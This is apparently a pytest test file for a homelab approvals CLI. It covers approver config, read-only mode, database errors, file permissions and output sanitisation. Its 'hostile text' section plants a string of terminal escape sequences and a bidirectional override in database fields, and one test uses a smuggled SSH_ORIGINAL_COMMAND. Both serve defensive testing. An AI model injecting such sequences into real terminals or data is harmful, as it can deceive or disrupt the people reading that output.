def test_a_missing_default_config_means_the_defaults(cli: Cli, world: ApprovalService) -> None:
    assert cli("approve", "1", pre=["--operator", "anyone"]).code == 0


# -- the console's read-only reason ----------------------------------------------------------


def session_for(*argv: str) -> Session:
    return Session(build_parser().parse_args([*argv, "tui"]))


def test_console_reason_names_the_non_approver_and_the_config(
    world: ApprovalService, db_target: DbTarget, tmp_path: Path
) -> None:
    config = write_config(tmp_path, 'approvers = ["alice"]\n')
    common = [*db_target.cli_args, "--config", str(config)]
    outsider = session_for(*common, "--operator", "mallory")
    insider = session_for(*common, "--operator", "alice")
    try:
        assert outsider.console_read_only_reason() == (
            f"mallory is not in the approvers list ({config})"
        )
        assert insider.console_read_only_reason() is None
    finally:
        outsider.close()
        insider.close()


def test_console_reason_for_a_read_only_database(
    world: ApprovalService, db_target: DbTarget
) -> None:
    session = session_for(*db_target.cli_args, "--read-only", "--operator", "alice")
    try:
        assert session.console_read_only_reason() == "--read-only was given"
    finally:
        session.close()


# -- database faults --------------------------------------------------------------------------


@A_FILE
def test_not_a_database_is_one_line_and_the_file_is_untouched(cli: Cli, tmp_path: Path) -> None:
    junk = tmp_path / "junk.db"
    junk.write_bytes(os.urandom(4096))
    before = junk.read_bytes()
    for argv in (["list"], ["approve", "1", "--json"], ["events", "--csv"]):
        run = cli(*argv, db=junk)
        assert run.code == 1
        assert run.error_line == f"error: DATABASE_ERROR: not a SQLite database: {junk}"
    assert junk.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["junk.db"]  # no -wal, no -shm


@DEFAULT_DB
@pytest.mark.parametrize("option", ["--db", "--database-url", "--config"])
def test_an_empty_path_option_is_refused_not_replaced_by_the_default(
    cli: Cli,
    world: ApprovalService,
    db_path: Path,
    db_target: DbTarget,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    option: str,
) -> None:
    """`--db "$DB"` with DB unset must not approve #1 in whatever database the default
    (here $HOMELAB_APPROVALS_DB) names."""
    monkeypatch.setenv("HOMELAB_APPROVALS_DB", str(db_path))
    before = dump(db_target)
    run = cli(option, "", "--operator", "alice", "approve", "1", db=None)
    assert run.code == 2
    assert run.error_line == (
        f"error: USAGE: argument {option}: must not be empty; leave it out for the default"
        " (see 'homelab-approvals --help')"
    )
    assert dump(db_target) == before
    assert not (tmp_path / "xdg-data").exists()


@A_FILE
def test_a_folder_as_the_database_says_so(cli: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    run = cli("--operator", "alice", "approve", "1", db=folder)
    assert run.code == 1
    assert run.error_line == (
        f"error: DATABASE_ERROR: the database path is a folder: {folder}"
        f" (name a file, e.g. {folder}/approvals.db)"
    )
    assert list(folder.iterdir()) == []


def test_read_only_reads_but_refuses_decisions(
    cli: Cli, world: ApprovalService, db_target: DbTarget
) -> None:
    before = dump(db_target)
    assert cli("list", "--json", pre=["--read-only"]).code == 0
    run = cli("approve", "1", pre=["--read-only", "--operator", "alice"])
    assert run.code == 1
    assert run.error_line.startswith("error: DATABASE_ERROR: database is open read-only")
    assert dump(db_target) == before


@A_FILE
def test_read_only_on_a_missing_database_creates_nothing(cli: Cli, db_path: Path) -> None:
    run = cli("list", pre=["--read-only"])
    assert run.code == 1
    assert run.error_line == f"error: DATABASE_ERROR: database does not exist: {db_path}"
    assert not db_path.exists()


@pytest.mark.sqlite_only("a sqlite:/// URL")
def test_database_url_sqlite(cli: Cli, world: ApprovalService, db_path: Path) -> None:
    run = cli("list", "--json", pre=["--database-url", f"sqlite:///{db_path}"], db=None)
    assert (run.code, len(run.json())) == (0, 4)


@DEFAULT_DB
def test_database_from_the_environment(
    cli: Cli, world: ApprovalService, db_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOMELAB_APPROVALS_DB", str(db_path))
    run = cli("list", "--json", db=None)
    assert (run.code, len(run.json())) == (0, 4)


@DEFAULT_DB
def test_default_database_is_created_private_in_the_user_data_dir(cli: Cli, tmp_path: Path) -> None:
    assert cli("servers", db=None).code == 0
    created = tmp_path / "xdg-data" / "homelab-approvals" / "approvals.db"
    assert stat.S_IMODE(created.stat().st_mode) == 0o600
    assert stat.S_IMODE(created.parent.stat().st_mode) == 0o700


@A_FILE
def test_group_shared_creates_a_group_writable_file(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "shared" / "approvals.db"
    assert cli("servers", pre=["--group-shared"], db=path).code == 0
    assert stat.S_IMODE(path.stat().st_mode) == 0o660
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o770


@pytest.mark.sqlite_only("SQLite's write lock against its busy timeout")
@pytest.mark.slow
def test_busy_database_is_one_line_and_changes_nothing(
    cli: Cli, world: ApprovalService, db_path: Path, db_target: DbTarget
) -> None:
    before = dump(db_target)
    holder = sqlite3.connect(db_path, isolation_level=None)
    try:
        holder.execute("BEGIN IMMEDIATE")  # hold the write lock past the busy timeout
        run = cli("approve", "1", pre=["--operator", "alice"])
    finally:
        holder.rollback()
        holder.close()
    assert run.code == 1
    assert run.error_line.startswith("error: DATABASE_BUSY: database is busy")
    assert dump(db_target) == before


def test_unexpected_errors_are_one_line_exit_1(
    cli: Cli, seeded: ApprovalService, db_target: DbTarget
) -> None:
    # A table no code expects: a HomelabCmd table that lost a column.
    db_target.execute("ALTER TABLE remediation_actions DROP COLUMN stderr")
    run = cli("list")
    assert run.code == 1
    assert run.error_line.startswith("error: ")
    assert "Traceback" not in run.err


@pytest.mark.sqlite_only("PostgreSQL's timestamp column refuses text that is no time")
def test_a_time_that_is_no_time_is_shown_marked_and_the_rest_listed(
    cli: Cli, seeded: ApprovalService, db_path: Path
) -> None:
    """Issue 16: it used to make every list fail (exit 1)."""
    conn = sqlite3.connect(db_path)
    conn.execute(
        "INSERT INTO remediation_actions (server_id, action_type, status, command, created_at,"
        " created_by) VALUES ('nas', 'clear_logs', 'pending', 'x', 'not a time', 'x')"
    )
    conn.commit()
    conn.close()
    run = cli("list")
    assert run.code == 0
    assert "\u26a0not a time" in run.out
    assert len(run.out.splitlines()) == 2 + len(seeded.list_actions().rows)


# -- hostile text ------------------------------------------------------------------------------

HOSTILE = "\x1b[2J\x1b]0;pwned\x07evil\u202ereversed\x9b31m"


@pytest.fixture
def hostile(seeded: ApprovalService, db_target: DbTarget) -> ApprovalService:
    """Text our validators would refuse, written behind their back (as another tool could):
    a server name, a service, command output, a reason and an event actor."""
    seeded.create_action("pi-4", "restart_service", "nginx", actor="homelabcmd")
    db_target.execute("UPDATE servers SET display_name = :h WHERE id = 'pi-4'", h=HOSTILE)
    db_target.execute(
        "UPDATE remediation_actions SET service_name = :h1, stdout = :out,"
        " rejection_reason = :h2, created_by = :h3 WHERE id = 1",
        h1=HOSTILE,
        h2=HOSTILE,
        h3=HOSTILE,
        out=f"line one\n{HOSTILE}\nline three",
    )
    db_target.execute(
        "INSERT INTO action_events (action_id, from_status, to_status, actor, at, reason)"
        " VALUES (1, 'pending', 'pending', :h1, '2026-11-27 10:00:00.000000', :h2)",
        h1=HOSTILE,
        h2=HOSTILE,
    )
    return seeded


@pytest.mark.parametrize(
    "argv",
    [["list"], ["show", "1"], ["servers"], ["events"]],
    ids=["list", "show", "servers", "events"],
)
def test_hostile_text_never_reaches_the_terminal_raw(
    cli: Cli, hostile: ApprovalService, argv: list[str]
) -> None:
    run = cli(*argv)
    assert run.code == 0
    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert raw not in run.out
    assert "␛[2J" in run.out


def test_hostile_text_in_json_is_escaped_and_round_trips(
    cli: Cli, hostile: ApprovalService
) -> None:
    run = cli("show", "1", "--json")
    assert run.out.isascii()
    assert "\x1b" not in run.out
    assert run.json()["server_label"] == HOSTILE
    assert run.json()["stdout"] == f"line one\n{HOSTILE}\nline three"


def test_hostile_text_in_csv_to_a_pipe_is_exact(cli: Cli, hostile: ApprovalService) -> None:
    # Not a terminal: an export must keep the data as stored.
    rows = list(csv.DictReader(io.StringIO(cli("events", "--csv").out, newline="")))
    assert rows[-1]["actor"] == HOSTILE


def test_show_keeps_output_lines_but_makes_each_inert(cli: Cli, hostile: ApprovalService) -> None:
    out = cli("show", "1").out
    stdout_lines = [line for line in out.splitlines() if "line one" in line or "line three" in line]
    assert len(stdout_lines) == 2


def test_hostile_text_in_error_messages_is_inert(cli: Cli, world: ApprovalService) -> None:
    run = cli("server", "pause", "evil\x1b[2J")
    assert run.code == 3
    assert "\x1b" not in run.err


# -- the actor -----------------------------------------------------------------------------------


def test_os_account_is_the_default_actor(cli: Cli, world: ApprovalService) -> None:
    import getpass

    run = cli("approve", "1", "--json")
    assert run.json()["approved_by"] == getpass.getuser()


def test_ssh_original_command_is_ignored(
    cli: Cli, world: ApprovalService, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", "homelab-approvals --operator mallory approve 1")
    run = cli("approve", "1", "--json", pre=["--operator", "alice"])
    assert run.json()["approved_by"] == "alice"


# -- fixture sanity ------------------------------------------------------------------------------


def test_world_fixture_has_every_kind_of_row(world: ApprovalService) -> None:
    statuses = [world.get_action(i).status for i in range(1, 5)]
    assert statuses == ["pending", "approved", "rejected", "failed"]
    assert datetime.now(UTC) >= world.get_action(1).created_at
